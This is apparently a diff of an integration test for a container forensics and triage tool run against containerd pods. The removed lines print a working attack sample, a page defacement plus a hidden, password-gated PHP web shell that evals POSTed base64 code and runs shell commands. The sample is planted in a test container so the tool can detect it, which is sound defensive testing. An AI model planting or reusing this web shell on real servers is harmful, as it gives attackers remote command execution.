@@ -15,29 +15,12 @@ import type { ContainerdApi } from '../../src/sources/containerd-api/containerd-
 import type { TriageReport } from '../../src/report/triage-report.js';
 import { EVIDENCE_IMAGE_FILE } from '../../src/bundle/write-bundle.js';
 import { coronerVerify, runCoroner } from '../support/coroner-run.js';
-import { cleanRun, newRunId, ranking, startSample } from '../support/engine.js';
+import { cleanRun, newRunId, ranking, startSample, webshellAttack } from '../support/engine.js';
 import {
   startTestContainerd,
   type PodContainer,
   type TestContainerd,
 } from '../support/test-containerd.js';
-
-const ATTACK = `
-cat > /var/www/index.html <<'HTML'
-<!doctype html>
-<html><body style="background:black;color:lime">
-<h1>HACKED BY xX_sh4d0w_Xx</h1>
-</body></html>
-HTML
-cat > /var/www/uploads/.cache.php <<'PHP'
-<?php
-if (isset($_REQUEST['k']) && md5($_REQUEST['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
-    @eval(base64_decode($_POST['p']));
-    echo shell_exec($_GET['c']);
-}
-?>
-PHP
-`;
 
 interface Expected {
   changes: {
@@ -71,7 +54,7 @@ describe('a pod container on containerd, triaged through its API', () => {
       command: ['sh', '-c', 'echo serving; exec /usr/local/bin/start-web'],
       podLabels: { app: 'shop-web' },
     });
-    await ctd.exec(web.id, 'sh', '-eu', '-c', ATTACK);
+    await ctd.exec(web.id, 'sh', '-euc', webshellAttack());
     api = await connectContainerd({ address: ctd.address, namespace: 'k8s.io' });
     cases = await mkdtemp(path.join(os.tmpdir(), 'coroner-ctd-cases-'));
     triage = await runCoroner([
